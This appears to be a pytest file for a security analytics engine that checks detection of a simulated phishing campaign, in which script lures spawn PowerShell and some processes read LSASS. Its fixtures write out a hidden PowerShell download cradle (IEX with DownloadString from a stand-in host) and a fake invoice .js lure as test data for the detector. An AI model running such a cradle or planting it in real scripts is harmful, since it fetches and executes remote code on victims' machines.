"""A lure's stager that varies every entity per host and shows neither LSASS nor ``-enc`` (red team T16).

On each of 8 campaign hosts a script lure (``wscript.exe`` running a per-host ``.js``) starts a
per-host PowerShell, ``-c "IEX (New-Object Net.WebClient).DownloadString('http://…/i/<per host>.png')"``:
a per-host URL on a domain the attacker made the fleet know beforehand (a tracking pixel on most
hosts the day before), so no domain, URL, file or process is new on two hosts, and the only
behaviour facts were LSASS reads, remote threads, encoded commands and Office starting a script
host.  Before, no cluster held these hosts (one fact kind, or none).  Now a shell a script file's
host started (``script_host_shell``) and a PowerShell running a download cradle
(``download_cradle``) are facts: one process carrying both is a signature.

What must make none: a per-host cradle typed at a prompt (explorer started it: one fact) and a
script lure's per-host ``cmd.exe`` that downloads nothing (one fact).
"""

from __future__ import annotations

from analytics.behaviour_pivots import behaviour_kinds, is_behaviour
from analytics.config import DetectionConfig
from analytics.detect import detect
from graphsiem.model import Entity, Sighting
from tests.analytics.behaviour_campaign import (
    ADMIN_HOSTS,
    CAMPAIGN_HOSTS,
    EXPLORER,
    LSASS,
    SLOW_HOSTS,
    build_fleet,
    campaign_time,
    relation,
)

CONFIG = DetectionConfig(evidence_top=0, history_days=0)
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
WSCRIPT = "C:\\Windows\\System32\\wscript.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"


def _cradle(name: str, token: str) -> Entity:
    return Entity("process", name, f"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)."
                  f"DownloadString('http://cdn-pixel-stats.example/i/{token}.png')\"", {"image": POWERSHELL})


def _lure(name: str, token: str) -> Entity:
    return Entity("process", name, f'"{WSCRIPT}" "C:\\Users\\u{token}\\Downloads\\Invoice_{token}.js"',
                  {"image": WSCRIPT})


def _plain(i: int) -> Entity:
    return Entity("process", f"c-ps-{i}", f"powershell.exe -nop -w hidden -c \"& $env:TEMP\\k{i:04x}.ps1\"",
                  {"image": POWERSHELL})


def _add(store, hosts, make_child, *, parent_is_lure: bool, reads_lsass: bool = False) -> None:
    """On each host a per-host child (``make_child(i)``), started by a per-host lure or by explorer."""
    entities, sightings, relations = [], [], []
    for i, host in enumerate(hosts):
        t = campaign_time(i)
        child = make_child(i)
        entities.append(child)
        sightings.append(Sighting(host, child.ref, t, t + 60, 1))
        if parent_is_lure:
            lure = _lure(f"lure-{host}", f"{host}{i:04x}")
            entities.append(lure)
            sightings.append(Sighting(host, lure.ref, t - 5, t + 60, 1))
            relations += [relation(EXPLORER, "SPAWNED", lure.ref, t - 5), relation(lure.ref, "SPAWNED", child.ref, t)]
        else:
            relations.append(relation(EXPLORER, "SPAWNED", child.ref, t))
        if reads_lsass:
            relations.append(relation(child.ref, "ACCESSED", LSASS, t + 30))
    store.upsert_entities(entities)
    store.upsert_sightings(sightings)
    store.upsert_relations(relations)
    store.flush()


def _behaviour_clusters(result):
    return [(sorted({behaviour_kinds(*e.ref) for e in c.entities if is_behaviour(e.ref)}), sorted(c.hosts))
            for c in result.clusters if is_behaviour(c.pivot.ref)]


def test_a_script_lures_plain_download_cradle_on_per_host_urls_is_one_behaviour_cluster(store):
    """No LSASS, no ``-enc``, every entity per host: the lure's PowerShell cradle alone pivots them."""
    build_fleet(store, campaign_hosts=[])
    _add(store, CAMPAIGN_HOSTS, lambda i: _cradle(f"c-ps-{i}", f"{i:04x}q7"), parent_is_lure=True)

    found = _behaviour_clusters(detect(store, config=CONFIG))

    assert found == [([("download_cradle", "script_host_shell")], CAMPAIGN_HOSTS)]


def test_a_script_lures_shell_reading_lsass_is_one_behaviour_cluster(store):
    """The lure's per-host PowerShell runs no cradle and no ``-enc`` but opens LSASS (one kind before)."""
    build_fleet(store, campaign_hosts=[])
    _add(store, CAMPAIGN_HOSTS, _plain, parent_is_lure=True, reads_lsass=True)

    found = _behaviour_clusters(detect(store, config=CONFIG))

    assert found == [([("lsass_access", "script_host_shell")], CAMPAIGN_HOSTS)]


def test_a_cradle_at_a_prompt_or_a_lures_quiet_shell_alone_is_no_behaviour_cluster(store):
    """One fact per host is no signature: a per-host cradle explorer started (a user at a prompt), and a
    script lure's per-host ``cmd.exe`` that downloads nothing."""
    build_fleet(store, campaign_hosts=[])
    _add(store, ADMIN_HOSTS, lambda i: _cradle(f"a-ps-{i}", f"adm{i:04x}"), parent_is_lure=False)
    _add(store, SLOW_HOSTS, lambda i: Entity("process", f"s-cmd-{i}", f'cmd.exe /c net use Z: \\\\fs-01\\home\\u{i:04x}',
                                             {"image": CMD}), parent_is_lure=True)

    assert _behaviour_clusters(detect(store, config=CONFIG)) == []
